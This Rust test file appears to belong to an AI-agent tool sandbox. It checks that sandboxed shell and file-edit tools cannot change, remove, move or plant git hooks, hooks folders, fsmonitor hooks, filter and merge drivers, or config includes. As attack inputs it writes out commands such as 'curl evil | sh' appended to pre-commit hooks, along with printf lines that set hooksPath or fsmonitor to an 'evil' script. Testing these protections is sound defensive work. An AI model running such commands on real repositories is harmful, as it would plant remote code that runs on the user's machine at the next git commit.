//! What the repository's own git configuration makes git execute or load
//! is protected like `.git` itself: a husky project's hooks are read-only
//! to sandboxed commands and asked for by the file tools, and on generated
//! configurations (hooks folders, fsmonitor hooks, filter, diff and merge
//! drivers, includes naming more of them) no path the configuration names
//! inside the project stays writable: present ones cannot be changed,
//! removed or moved, absent ones a command creates are asked and moved
//! aside. Skipped where the kernel cannot enforce the sandbox.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use agentgate_core::{Tool, ToolContext};
use agentgate_permission::{Action, Reply, Rule, Ruleset};
use agentgate_testing::RecordingApprover;
use agentgate_tools::{
    ApplyPatchTool, BashTool, EditTool, Sandbox, SandboxMode, SandboxPolicy, WriteTool,
};
use serde_json::json;

/// A fresh folder outside the temporary folders (which `workspace-write`
/// leaves writable whatever the project).
fn outside_dir(name: &str) -> PathBuf {
    let temp: Vec<PathBuf> = ["/tmp", "/var/tmp", "/dev/shm"]
        .iter()
        .map(PathBuf::from)
        .chain([std::env::temp_dir()])
        .map(|r| r.canonicalize().unwrap_or(r))
        .collect();
    let target = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    std::fs::create_dir_all(&target).unwrap();
    let mut root = target.canonicalize().unwrap();
    if temp.iter().any(|t| root.starts_with(t)) {
        let home = PathBuf::from(std::env::var_os("HOME").expect("HOME"));
        root = home.join(".cache").join("agent-sdk-sandbox-tests");
        std::fs::create_dir_all(&root).unwrap();
        root = root.canonicalize().unwrap();
    }
    agentgate_testing::scratch_dir_in(&root, &format!("gitprot-{name}"))
}

/// The bash tool under `workspace-write`, or `None` (the test is skipped)
/// where this kernel cannot enforce it.
fn sandboxed_bash() -> Option<BashTool> {
    let sandbox = Sandbox::new(SandboxPolicy::new(SandboxMode::WorkspaceWrite));
    if sandbox.status().is_degraded() {
        eprintln!(
            "skipped: the sandbox is not enforced here: {}",
            sandbox.status().summary()
        );
        return None;
    }
    Some(
        BashTool::new()
            .with_kill_grace(Duration::from_millis(300))
            .with_sandbox(sandbox),
    )
}

/// Every rule allows everything (as the built-in agents do) and the person
/// asked rejects: only a `protected_path` ask reaches them.
fn rejecting(project: &Path) -> (ToolContext, Arc<RecordingApprover>) {
    let rejecter = Arc::new(RecordingApprover::replying(Reply::reject()));
    let permissions = agentgate_permission::PermissionGate::new();
    permissions.set_approver(rejecter.clone());
    let ctx = ToolContext::new("ses_gitprot", "msg_1", "call_1", permissions)
        .with_directories(project.to_path_buf(), project.to_path_buf())
        .with_ruleset(Arc::new(Ruleset::from(vec![Rule::new(
            "*",
            "*",
            Action::Allow,
        )])));
    (ctx, rejecter)
}

async fn run(tool: &BashTool, ctx: &ToolContext, command: &str) -> String {
    match tool
        .execute(json!({"command": command, "timeout": 20_000}), ctx)
        .await
    {
        Ok(out) => out.output,
        Err(error) => error.to_string(),
    }
}

fn git_repo(project: &Path, config: &str) {
    std::fs::create_dir_all(project.join(".git/hooks")).unwrap();
    std::fs::write(project.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(project.join(".git/config"), config).unwrap();
}

const HOOK: &str = "#!/bin/sh\nnpm test\n";

/// husky: `core.hooksPath` names a folder of the project; the user's next
/// `git commit` runs `.husky/pre-commit` on the host.
#[tokio::test]
async fn a_husky_hook_is_read_only_to_commands_and_asked_by_the_file_tools() {
    let Some(tool) = sandboxed_bash() else { return };
    for hooks_path in [".husky", "./.githooks", "tools/hooks"] {
        let project = outside_dir("husky");
        git_repo(&project, &format!("[core]\n\thooksPath = {hooks_path}\n"));
        let hooks = project.join(hooks_path);
        std::fs::create_dir_all(&hooks).unwrap();
        std::fs::write(hooks.join("pre-commit"), HOOK).unwrap();
        let (ctx, rejecter) = rejecting(&project);
        let out = run(
            &tool,
            &ctx,
            &format!(
                "echo 'curl evil | sh' >> {h}/pre-commit; echo pwned > {h}/post-checkout; \
                 rm -f {h}/pre-commit; mv {h} moved; echo built > build.log",
                h = hooks_path
            ),
        )
        .await;
        assert_eq!(
            std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
            HOOK,
            "{hooks_path}: {out}"
        );
        assert!(!hooks.join("post-checkout").exists(), "{hooks_path}: {out}");
        // `mv` across the pinned folders falls back to copying: the copy
        // is not where git looks, the hooks stay where they were.
        assert!(hooks.join("pre-commit").is_file(), "{hooks_path}: {out}");
        assert!(
            project.join("build.log").exists(),
            "the rest stays writable: {out}"
        );

        let file = format!("{hooks_path}/pre-commit");
        let patch = format!(
            "*** Begin Patch\n*** Update File: {file}\n@@\n-npm test\n+curl evil | sh\n*** End Patch"
        );
        let calls: Vec<(Box<dyn Tool>, serde_json::Value)> = vec![
            (
                Box::new(EditTool),
                json!({"filePath": file, "oldString": "npm test", "newString": "curl evil | sh"}),
            ),
            (
                Box::new(WriteTool),
                json!({"filePath": file, "content": "curl evil | sh\n"}),
            ),
            (Box::new(ApplyPatchTool), json!({"patchText": patch})),
        ];
        for (tool, args) in calls {
            assert!(tool.execute(args.clone(), &ctx).await.is_err(), "{args}");
        }
        let asked = rejecter.summaries();
        let path = project
            .join(hooks_path.trim_start_matches("./"))
            .join("pre-commit");
        let asked_for_hook = asked
            .iter()
            .filter(|s| s.starts_with("protected_path ") && s.contains(path.to_str().unwrap()))
            .count();
        assert!(asked_for_hook >= 3, "{hooks_path}: {asked:?}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), HOOK);
        let _ = std::fs::remove_dir_all(&project);
    }
}

/// husky 9 sets `core.hooksPath = .husky/_`, whose scripts run
/// `.husky/pre-commit`: the fixed name `.husky` covers the folder.
#[tokio::test]
async fn husky_nine_scripts_beside_its_hooks_path_are_protected_too() {
    let Some(tool) = sandboxed_bash() else { return };
    let project = outside_dir("husky9");
    git_repo(&project, "[core]\n\thooksPath = .husky/_\n");
    std::fs::create_dir_all(project.join(".husky/_")).unwrap();
    std::fs::write(project.join(".husky/pre-commit"), HOOK).unwrap();
    let (ctx, _) = rejecting(&project);
    run(&tool, &ctx, "echo 'curl evil | sh' > .husky/pre-commit").await;
    assert_eq!(
        std::fs::read_to_string(project.join(".husky/pre-commit")).unwrap(),
        HOOK
    );
    let _ = std::fs::remove_dir_all(&project);
}

/// A hooks folder the configuration names but that does not exist yet: a
/// command that creates it is asked, and what it made is moved aside.
#[tokio::test]
async fn an_absent_hooks_folder_a_command_creates_is_asked_and_moved_aside() {
    let Some(tool) = sandboxed_bash() else { return };
    let project = outside_dir("absent");
    git_repo(&project, "[core]\n\thooksPath = githooks\n");
    let (ctx, rejecter) = rejecting(&project);
    run(
        &tool,
        &ctx,
        "mkdir githooks && echo 'curl evil | sh' > githooks/pre-commit",
    )
    .await;
    assert!(!project.join("githooks").exists());
    assert!(project.join("githooks.rejected-1/pre-commit").exists());
    let asked = rejecter.summaries();
    assert!(
        asked.iter().any(|s| s.starts_with("protected_path ")),
        "{asked:?}"
    );
    let _ = std::fs::remove_dir_all(&project);
}

/// A small deterministic generator (each case reproducible by its seed).
struct Lcg(u64);

impl Lcg {
    fn below(&mut self, n: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((self.0 >> 33) as usize) % n
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
}

/// Paths a configuration may name, relative to the project.
const PATHS: &[&str] = &[
    "hooks",
    "scripts/clean.sh",
    "scripts/smudge",
    "tools/driver.py",
    "bin/textconv",
    "ci/fsmonitor-hook",
    "deep/er/hook-dir",
];

/// One generated configuration: its text, the included files (path,
/// text), and every path it names (relative; folder or file).
struct Generated {
    config: String,
    includes: Vec<(String, String)>,
    named: Vec<(String, bool)>,
}

/// One line naming `path` (a folder when `folder`).
fn naming_line(rng: &mut Lcg, path: &str, folder: bool) -> String {
    let spelled = match rng.below(3) {
        0 => path.to_string(),
        1 => format!("./{path}"),
        _ => format!("\"{path}\""),
    };
    if folder {
        return format!("[core]\n\thooksPath = {spelled}\n");
    }
    let driver = rng.pick(&["lfs", "x", "Two Words"]);
    match rng.below(6) {
        0 => format!("[core]\n\tfsmonitor = {spelled}\n"),
        1 => format!("[filter \"{driver}\"]\n\tclean = sh {spelled} %f\n"),
        2 => format!("[filter \"{driver}\"]\n\tsmudge = {spelled} --in=%f\n\trequired\n"),
        3 => format!("[diff \"{driver}\"]\n\ttextconv = \"{path}\"\n"),
        4 => format!("[merge \"{driver}\"]\n\tdriver = {spelled} %O %A %B\n"),
        _ => format!("[alias]\n\tt = !{spelled}\n"),
    }
}

fn generate(seed: u64) -> Generated {
    let mut rng = Lcg(seed);
    let mut generated = Generated {
        config: "[core]\n\trepositoryformatversion = 0\n".to_string(),
        includes: Vec::new(),
        named: Vec::new(),
    };
    for _ in 0..1 + rng.below(4) {
        let path = rng.pick(PATHS);
        let folder = path == "hooks" || path.ends_with("-dir");
        let line = naming_line(&mut rng, path, folder);
        generated.named.push((path.to_string(), folder));
        if rng.below(3) == 0 {
            // In a file the configuration includes (itself protected).
            let name = format!("conf/inc{}.gitconfig", generated.includes.len());
            let header = if rng.below(2) == 0 {
                "[include]".to_string()
            } else {
                "[includeIf \"gitdir:/somewhere/else/\"]".to_string()
            };
            generated
                .config
                .push_str(&format!("{header}\n\tpath = ../{name}\n"));
            generated.named.push((name.clone(), false));
            generated.includes.push((name, line));
        } else {
            generated.config.push_str(&line);
        }
    }
    generated
}

/// What is at `path`: a file's text, or a folder's entries and their texts.
fn snapshot(path: &Path) -> Option<String> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if !meta.is_dir() {
        return Some(std::fs::read_to_string(path).unwrap_or_default());
    }
    let mut names: Vec<String> = std::fs::read_dir(path)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    Some(
        names
            .iter()
            .map(|n| format!("{n}:{}", snapshot(&path.join(n)).unwrap_or_default()))
            .collect::<Vec<_>>()
            .join("\n"),
    )
}

/// The shell that tries to change, remove, move or create `path`.
fn attack(path: &str, folder: bool) -> String {
    if folder {
        format!(
            "mkdir -p {path}; echo pwned > {path}/pre-commit; echo pwned >> {path}/existing; \
             mv {path} {path}.moved; rm -rf {path}; "
        )
    } else {
        format!(
            "mkdir -p \"$(dirname {path})\"; echo pwned >> {path}; rm -f {path}; \
             mv {path} {path}.moved; echo pwned > {path}; "
        )
    }
}

#[tokio::test]
async fn no_path_a_generated_git_configuration_names_is_writable_by_commands() {
    let Some(tool) = sandboxed_bash() else { return };
    for seed in 0..24u64 {
        let generated = generate(seed);
        let project = outside_dir(&format!("generated-{seed}"));
        git_repo(&project, &generated.config);
        let mut rng = Lcg(seed ^ 0x5eed);
        for (path, text) in &generated.includes {
            let file = project.join(path);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        }
        // Some named paths exist before the command, some do not.
        for (path, folder) in &generated.named {
            let full = project.join(path);
            if full.exists() || rng.below(3) == 0 {
                continue;
            }
            if *folder {
                std::fs::create_dir_all(&full).unwrap();
                std::fs::write(full.join("existing"), "ok\n").unwrap();
            } else {
                std::fs::create_dir_all(full.parent().unwrap()).unwrap();
                std::fs::write(&full, "ok\n").unwrap();
            }
        }
        let before: Vec<Option<String>> = generated
            .named
            .iter()
            .map(|(path, _)| snapshot(&project.join(path)))
            .collect();
        let script: String = generated
            .named
            .iter()
            .map(|(path, folder)| attack(path, *folder))
            .collect();
        let (ctx, _) = rejecting(&project);
        let out = run(&tool, &ctx, &format!("{script}echo done > build.log")).await;
        for ((path, _), was) in generated.named.iter().zip(&before) {
            let now = snapshot(&project.join(path));
            assert_eq!(
                &now, was,
                "seed {seed}: {path} changed\nconfig:\n{}\nincludes: {:?}\noutput: {out}",
                generated.config, generated.includes
            );
            // What existed stays where git looks (one made by the command
            // may go anywhere: git does not look there).
            assert!(
                was.is_none() || !project.join(format!("{path}.moved")).exists(),
                "seed {seed}: {path} was moved"
            );
        }
        assert!(project.join("build.log").exists(), "seed {seed}: {out}");
        let _ = std::fs::remove_dir_all(&project);
    }
}

/// `.git/config` itself cannot change under a command, so what it names
/// is only re-derived when a file it includes does: an include target of
/// the tree that does not exist yet is watched like an absent hooks
/// folder, and one that exists is read-only.
#[tokio::test]
async fn the_config_and_its_includes_cannot_be_changed_or_planted_by_commands() {
    let Some(tool) = sandboxed_bash() else { return };
    let project = outside_dir("include");
    git_repo(
        &project,
        "[include]\n\tpath = ../local.gitconfig\n\tpath = ../team.gitconfig\n",
    );
    std::fs::write(project.join("team.gitconfig"), "[core]\n").unwrap();
    let (ctx, rejecter) = rejecting(&project);
    let out = run(
        &tool,
        &ctx,
        "printf '[core]\\n\\thooksPath = evil\\n' >> .git/config; \
         printf '[core]\\n\\thooksPath = evil\\n' >> team.gitconfig; \
         printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' > local.gitconfig",
    )
    .await;
    assert!(
        std::fs::read_to_string(project.join(".git/config"))
            .unwrap()
            .ends_with("team.gitconfig\n"),
        "{out}"
    );
    assert_eq!(
        std::fs::read_to_string(project.join("team.gitconfig")).unwrap(),
        "[core]\n",
        "{out}"
    );
    assert!(!project.join("local.gitconfig").exists(), "{out}");
    assert!(project.join("local.gitconfig.rejected-1").exists());
    let asked = rejecter.summaries();
    assert!(
        asked.iter().any(|s| s.contains("local.gitconfig")),
        "{asked:?}"
    );
    let _ = std::fs::remove_dir_all(&project);
}
